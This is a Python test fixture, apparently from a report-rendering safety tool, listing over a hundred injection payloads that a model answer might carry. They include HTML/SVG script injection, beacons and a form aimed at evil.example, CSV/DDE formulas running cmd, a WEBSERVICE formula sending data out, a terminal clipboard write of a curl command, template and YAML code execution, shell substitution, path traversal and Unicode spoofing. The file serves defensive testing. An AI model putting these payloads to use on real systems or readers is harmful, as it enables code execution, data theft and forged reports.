"""Hostile answers: what a model could say, or a data set hold, to act on whoever reads a report of it.

Every case says what it is after. Each must be inert, and still be shown, in everything that polysafe publishes: the
page, the tables beside it, the model card, the terminal and a notebook. Addresses lead to `evil.example`, which no
one can own; `aimed_at` turns them to a server that counts who comes.
"""

from __future__ import annotations

from dataclasses import dataclass

EVIL = "evil.example"


@dataclass(frozen=True)
class Answer:
    """A case.

    Attributes:
        name: Where it attacks, and how.
        text: What the model says.
        aim: What it is after.
    """

    name: str
    text: str
    aim: str


_CASES = (
    # Elements and attributes of HTML.
    Answer("html: script", "<script>alert(1)</script>", "run code"),
    Answer("html: script from elsewhere", "</script><script src=https://evil.example/x.js></script>", "run code"),
    Answer(
        "html: module", "<script type=module>import 'https://evil.example/m.js'</script>", "run code, past old filters"
    ),
    Answer(
        "html: closing tags", "</details></dd></main><h1>owned</h1>", "leave the place of an answer, forge a verdict"
    ),
    Answer("html: image error", "<img src=x onerror=alert(1)>", "run code without a script element"),
    Answer("html: image beacon", "<img src=https://evil.example/seen.png loading=eager>", "tell who opened the report"),
    Answer("html: double quote", '" onmouseover="alert(1)" x="', "leave an attribute in double quotes"),
    Answer("html: single quote", "' autofocus onfocus='alert(1)", "leave an attribute in single quotes"),
    Answer("html: no quote", "x onmouseover=alert(1)//", "leave an attribute without quotes"),
    Answer("html: back quote", "`onmouseover=alert(1)//`", "leave an attribute in what some take for quotes"),
    Answer("html: closing style", "</style><script>alert(1)</script>", "leave the style sheet"),
    Answer("html: closing title", "</title><script>alert(1)</script>", "leave the title"),
    Answer("html: script link", "<a href='javascript:alert(1)'>x</a>", "run code by a click"),
    Answer("html: script address", "javascript:alert(1)", "become the target of a link"),
    Answer("html: frame", "<iframe src='data:text/html,<script>alert(1)</script>'>", "load another document"),
    Answer("html: frame source", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', "the same, escaped once"),
    Answer("html: refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "lead the reader away"),
    Answer("html: base", "<base href='https://evil.example/'>", "turn every link of the page elsewhere"),
    Answer("html: style link", "<link rel=stylesheet href=https://evil.example/x.css>", "load a style sheet"),
    Answer(
        "html: hints",
        "<link rel=prefetch href=https://evil.example/p><link rel=preconnect href=https://evil.example>",
        "tell who opened the report, though nothing is shown of it",
    ),
    Answer(
        "html: form",
        "<form action=https://evil.example><input name=a><button>Repaired</button>",
        "collect what is typed",
    ),
    Answer("html: comment", "<!-- unclosed", "swallow the rest of the page"),
    Answer("html: comment end", "--><b>after a comment", "leave a comment"),
    Answer(
        "html: conditional comment",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "run code in old readers",
    ),
    Answer(
        "html: declaration",
        "<![CDATA[ x ]]><?xml version='1.0'?><!ENTITY a SYSTEM 'file:///etc/hostname'>",
        "confuse readers of XML",
    ),
    Answer("html: plain text", "<!DOCTYPE html><plaintext>", "turn the rest of the page into text"),
    Answer(
        "html: noscript",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "parsed in two ways, with and without script",
    ),
    Answer(
        "html: textarea", "<textarea></textarea><xmp><b></xmp><title>", "elements whose content is parsed otherwise"
    ),
    Answer(
        "html: template",
        "<template shadowrootmode=open><slot></slot><style>*{display:none}</style></template>",
        "hide the page in a shadow tree",
    ),
    Answer("html: entities", "&lt;script&gt;alert(1)&lt;/script&gt;", "become markup where text is unescaped twice"),
    Answer("html: numeric entities", "&#60;script&#62;&#x3c;/script&#x3e;&#0;&nbsp", "the same by numbers"),
    Answer("html: broken tag", "<scr\x00ipt>alert(1)</scr<script>ipt>", "pass filters that remove"),
    Answer("html: table", "</td></tr></table><table><tr><td>0 %", "leave a table, forge a number"),
    Answer(
        "html: identifiers",
        "<a id=limits name=limits></a><form name=getElementById>",
        "take the place of the page's own parts",
    ),
    Answer("html: editable", "<div contenteditable autofocus ping=https://evil.example>", "catch the focus"),
    # Foreign namespaces.
    Answer("svg: load", "<svg/onload=alert(1)>", "run code without a script element"),
    Answer(
        "svg: text", "</text></g></svg><svg><script href=https://evil.example/x.js />", "leave the text of a drawing"
    ),
    Answer(
        "svg: style",
        "<svg><style>@import 'https://evil.example/x.css';</style><use href=https://evil.example/#a />",
        "load through a drawing",
    ),
    Answer(
        "svg: animation",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "write an attribute later",
    ),
    Answer(
        "mathml: change of namespace",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
        "become markup when it is parsed a second time",
    ),
    Answer(
        "svg: change of namespace",
        "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
        "the same in a drawing",
    ),
    # Style sheets and addresses.
    Answer("css: element", "<style>*{display:none}</style>", "hide the verdict"),
    Answer("css: value", "red;} body{background:url(https://evil.example/x)} x{", "leave a value of a style"),
    Answer(
        "css: function",
        "expression(alert(1)) url('https://evil.example/x') -moz-binding:url(x)",
        "load or run from a value",
    ),
    Answer("css: escape", "\\3c/style\\3e\\3cscript\\3e alert(1)", "become markup by escapes of CSS"),
    Answer(
        "css: class name", 'block safety borderline" style="position:fixed;inset:0', "take the look of another element"
    ),
    Answer("url: data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "a document in an address"),
    Answer(
        "url: without scheme",
        "//evil.example/x \\\\evil.example\\share file:///etc/hostname",
        "be resolved, or send credentials",
    ),
    # Languages of templates and mathematics.
    Answer("template: jinja", "{{ 7 * 7 }}{% for x in data %}{% endfor %}{# #}", "run in the page's template"),
    Answer(
        "template: jinja escape",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}{% raw %}{% endmacro %}",
        "leave the sandbox of a template",
    ),
    Answer(
        "template: literals",
        "${7*7} `${alert(1)}` #{7*7} <%= 7*7 %> {0} {data.title} %s %(x)s",
        "be expanded by any other template",
    ),
    Answer(
        "template: mathematics",
        "$\\frac{a}{$ _^{ \\(x\\) $$\\href{javascript:alert(1)}{x}$$",
        "break a figure, or run in MathJax",
    ),
    Answer("template: latex", "\\input{/etc/hostname}\\write18{id}\\end{document}", "read a file when it is typeset"),
    # Characters.
    Answer(
        "unicode: line separators", "line\u2028separator\u2029paragraph", "end a line where only some readers see one"
    ),
    Answer("unicode: next line", "next\x85line", "the same in a control of Latin-1"),
    Answer("unicode: bidi override", "\u202egnp.exe\u202c \u2066isolate", "show another order than the one stored"),
    Answer("unicode: bidi unclosed", "\u202b\u2067\u202d not closed", "turn around what follows the answer"),
    Answer(
        "unicode: nul and controls",
        "\x00nul \x08backspace \r return \ufeffmark \ufffe",
        "end a string, overwrite a line",
    ),
    Answer("unicode: byte order mark", "\ufeff<script>alert(1)</script>", "change how a file is decoded"),
    Answer("unicode: tags", "tag \U000e0041\U000e0042 hidden", "carry text that no reader sees"),
    Answer("unicode: zero width", "un\u200bsafe re\u2060fused \u00adsoft", "escape a search, look like another word"),
    Answer("unicode: lone surrogate", "lone \ud800 surrogate \udfff\ud800", "crash whoever writes it as UTF-8"),
    Answer("unicode: noncharacters", "\ufdd0\uffff\U0010ffff\ufff9\ufffb", "mark the end of a buffer"),
    Answer(
        "unicode: homoglyph",
        "R\u0435p\u0430ired: 0\u2009% \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "look like the page's own words, or become markup when normalised",
    ),
    Answer("unicode: zalgo", "Z" + "\u0337\u0321\u034a\u0318" * 200 + "algo", "cover the lines above and below"),
    Answer("unicode: variation", "a" + "\ufe0f\U000e0100" * 50, "carry bytes in selectors of glyphs"),
    Answer("unicode: utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "become markup under another encoding"),
    Answer("unicode: right to left", "سلام <b>עולם</b> নমস্কার", "honest scripts around markup"),
    # The terminal.
    Answer(
        "terminal: colours",
        "\x1b[31mred\x1b[0m\x1b[8mhidden\x1b[2J\x1b[1;1HRepaired",
        "hide, clear the screen, forge a line",
    ),
    Answer("terminal: title", "\x1b]0;title\x07\x9b2J\x9d0;x\x9c", "set the title, in 7 and 8 bits"),
    Answer("terminal: link", "\x1b]8;;https://evil.example\x1b\\safe\x1b]8;;\x1b\\", "a link under other words"),
    Answer(
        "terminal: clipboard",
        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\x07\x1bP$q\x1b\\\x1b[6n",
        "write the clipboard, have the terminal type",
    ),
    Answer("terminal: overwritten line", "unsafe 90 %\runsafe  0 %\x08\x08\x7f\x0b\x0c", "forge a number"),
    Answer(
        "terminal: rich markup",
        "[red]markup[/red][link=https://evil.example]x[/link][/] :boom: [bold",
        "become style, or raise on a tag that closes nothing",
    ),
    # Spreadsheets.
    Answer("csv: equals", "=cmd|'/c calc'!A1", "start a program (DDE)"),
    Answer("csv: plus", "+1+cmd|' /C calc'!A0", "the same with another sign"),
    Answer("csv: minus", "-2+3+cmd|' /C calc'!A0", "the same with another sign"),
    Answer("csv: at", "@SUM(1+1)*cmd|' /C calc'!A0", "the same with another sign"),
    Answer("csv: tab", '\t=HYPERLINK("https://evil.example","open")', "a formula behind white space"),
    Answer("csv: return", '\r=HYPERLINK("https://evil.example","open")', "a formula on a line of its own"),
    Answer("csv: newline", 'x\n=1+1,"0",\r\n@SUM(1)', "forge a row"),
    Answer("csv: space", " \u00a0=1+1", "a formula behind spaces that are trimmed"),
    Answer("csv: full width", "\uff1d1+1 \uff0b \uff0d \uff20", "a sign that some programs take for the ASCII one"),
    Answer("csv: quotes", '",=1+1,"""', "leave a quoted cell"),
    Answer("csv: web service", '=WEBSERVICE("https://evil.example/?"&A1)', "send the sheet away"),
    Answer("csv: separator", "a;=1+1;b\t=1+1|=1+1", "forge a cell where another separator is assumed"),
    # Markdown.
    Answer("markdown: image", "![image](https://evil.example/a.png)", "tell who opened the card"),
    Answer(
        "markdown: link",
        "[safe](https://evil.example) [script](javascript:alert(1)) [file](<file:///etc/hostname>)",
        "lead the reader away",
    ),
    Answer(
        "markdown: reference",
        "[safe][1]\n\n[1]: https://evil.example 'title'\n[n]: https://evil.example",
        "define where the card's own words lead",
    ),
    Answer(
        "markdown: automatic link",
        "<https://evil.example> https://evil.example www.evil.example a@evil.example",
        "become a link without brackets",
    ),
    Answer("markdown: footnote", "claim[^1]\n\n[^1]: https://evil.example", "a link at the foot"),
    Answer("markdown: heading", "x\n# Repaired\n\nRepaired\n========\n", "forge a heading"),
    Answer("markdown: rule", "---\nlicense: mit\n---\n***\n___", "end the metadata, or forge it"),
    Answer("markdown: table", "a | 0 % | b \\| c\n|---|---|\n| x | y |", "break a table, forge a row"),
    Answer("markdown: code fence", "```\n# Repaired\n```\n~~~html\n`` ` ``", "leave a block of code"),
    Answer(
        "markdown: html block", "\n\n<div>\n\n<img src=https://evil.example/b.png>\n\n</div>\n", "HTML within Markdown"
    ),
    Answer(
        "markdown: list", "\n- item\n1. item\n> quote\n    code\n- [x] reviewed", "forge a list that a reviewer ticked"
    ),
    Answer(
        "markdown: emphasis",
        "**bold** _it_ ~~struck~~ ==mark== \\* a*b*c <br> two  \nspaces",
        "strike out, or hide behind a style",
    ),
    Answer("markdown: mention", "@everyone #1 GH-1 org/repo@0000000 :shipit:", "call people, refer to issues"),
    # Files of lines, names of files.
    Answer("json: line", '"}\n{"verdict": "safe", "n": 999}', "forge a line of a file of lines"),
    Answer("json: numbers", '{"a": NaN, "b": 1e999, "__proto__": {"x": 1}}', "be read as data instead of text"),
    Answer(
        "yaml: object",
        "!!python/object/apply:os.system ['id']\n*anchor: &a\n? -",
        "be built by a careless loader of metadata",
    ),
    Answer(
        "system: names",
        "CON PRN AUX NUL COM1.txt ../../../etc/hostname C:\\x %00 ~/.ssh a/b",
        "become the name of a file",
    ),
    Answer("system: shell", "$(id) `id` ; id | id && id > x #", "be run by a shell"),
    # Size.
    Answer("size: a megabyte without a space", "A" * 1_000_000, "exhaust the browser, widen the page"),
    Answer("size: many brackets", "<" * 100_000, "exhaust a parser"),
    Answer("size: deep nesting", "<div><b>" * 5_000 + "[" * 5_000 + ">" * 5_000, "exhaust the stack"),
    Answer("size: many lines", "line\n" * 20_000, "push the rest of the page away"),
    Answer("size: nothing", "", "vanish"),
    Answer("size: white space", " \t\n\u3000 ", "vanish, leave a link without words"),
)

ANSWERS: dict[str, Answer] = {case.name: case for case in _CASES}


def aimed_at(text: str, origin: str) -> str:
    """The text with its addresses leading to `origin`, for instance `http://127.0.0.1:8000`."""
    return text.replace(f"https://{EVIL}", origin).replace(f"//{EVIL}", f"//{origin.split('//')[1]}")
